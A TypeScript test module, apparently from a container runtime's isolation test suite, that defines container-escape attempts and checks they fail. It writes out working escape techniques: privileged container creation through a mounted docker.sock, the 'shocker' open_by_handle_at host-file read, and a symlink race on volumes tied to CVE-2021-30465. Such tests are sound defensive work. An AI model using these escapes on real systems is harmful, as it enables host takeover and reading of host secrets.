/** Files and sockets of the host that a workload was not given. */

import { execFileSync } from "node:child_process";
import { join } from "node:path";
import { run } from "../../harness/daemon.ts";
import type { Bed, Target } from "../bed.ts";
import type { Vector } from "../vector.ts";

const SOCKETS = ["/run/docker.sock", "/var/run/docker.sock", "/run/bulkhead/bulkhead.sock"];

export const FILE_VECTORS: readonly Vector[] = [
  {
    id: "api-socket",
    deed: "have the daemon start a privileged workload that writes to the host",
    follows: "a mounted docker.sock",
    attempt: (bed) => {
      const host = { Privileged: true, Binds: [`${bed.marks}:/marks`], NetworkMode: "none", AutoRemove: true };
      const body = JSON.stringify({ Image: "attempts", Cmd: ["touch", "/marks/api-socket"], HostConfig: host });
      const ask = (path: string, text: string) =>
        `talk path $socket "$(printf 'POST ${path} HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\nContent-Type: application/json\\r\\nContent-Length: ${text.length}\\r\\n\\r\\n%s' '${text}')"`;
      const asks = [ask("/containers/create?name=intruder", body), ask("/containers/intruder/start", "{}")].join("; ");
      return `for socket in ${[...SOCKETS, bed.daemon.socket].join(" ")}; do ${asks}; done`;
    },
    effect: "mark",
    told: /No such file/,
    control: { host: (bed) => ({ Binds: [`${bed.daemon.socket}:/run/docker.sock`] }) },
  },
  {
    id: "file-handle",
    deed: "open a file of the host by its handle, past every mount",
    follows: 'the "shocker" of 2014: open_by_handle_at(2)',
    attempt: (bed) => `handle open ${execFileSync(bed.program("handle"), ["make", bed.secretFile], { encoding: "utf8" }).trim()}`,
    effect: "secret",
    told: /Operation not permitted/,
    control: { host: { CapAdd: ["DAC_READ_SEARCH"], UsernsMode: "host" } },
  },
  {
    id: "volume-link",
    deed: "have something mounted or made on the host through a link in a volume, also one that changes meanwhile",
    follows: "CVE-2021-30465, CVE-2017-1002101",
    attempt: (bed) => `ln -sfn ${bed.marks} /data/out`,
    carryOut: mountBelowLink,
    effect: "mark",
    control: { own: makeBelowLink },
  },
];

/** A volume's link on the way to another mount's place: standing, then in a race. */
async function mountBelowLink(bed: Bed, { inhabitants, isolation, quick }: Target, script: string): Promise<string> {
  const planted = { Image: "attempts" };
  const swap = `while :; do rm -rf /data/out; ${script}; rm -rf /data/out; mkdir /data/out; done`;
  await inhabitants.run("planter", ["sh", "-c", script], { Binds: [`links-${isolation}:/data`] }, planted);
  await inhabitants.wait("planter");
  const said: string[] = [];
  for (const racing of [false, ...Array<boolean>(quick ? 5 : 0).fill(true)]) {
    const racer = racing && !(await inhabitants.exists("racer"));
    if (racer) await inhabitants.run("racer", ["sh", "-c", swap], { Binds: [`links-${isolation}:/data`] }, planted);
    const Binds = [`links-${isolation}:/data`, `below-${isolation}:/data/out/made`];
    await inhabitants.run("second", ["sh", "-c", "touch /data/out/touched /data/out/made/touched"], { Binds }, planted).then(
      () => inhabitants.wait("second"),
      (thrown) => said.push(String(thrown)),
    );
    await bed.daemon.client.workloads.remove("second", { force: true }).catch(String);
  }
  await inhabitants.remove("planter");
  if (await inhabitants.exists("racer")) await inhabitants.remove("racer");
  for (const name of ["links", "below"]) await bed.daemon.client.volumes.remove(`${name}-${isolation}`).catch((thrown) => said.push(String(thrown)));
  return said.join("\n");
}

/** The same link, and a host that makes the place by its path as it stands. */
async function makeBelowLink(bed: Bed, script: string): Promise<string> {
  const target = await bed.raise("container", "control", { Binds: ["links-control:/data"] });
  await target.say(script);
  const { stdout } = await bed.daemon.cli("volume", "inspect", "-f", "{{.Mountpoint}}", "links-control");
  const made = await run("mkdir", ["-p", join(stdout.trim(), "out/made")]);
  await target.inhabitants.remove("control");
  await bed.daemon.client.volumes.remove("links-control");
  return made.stderr;
}
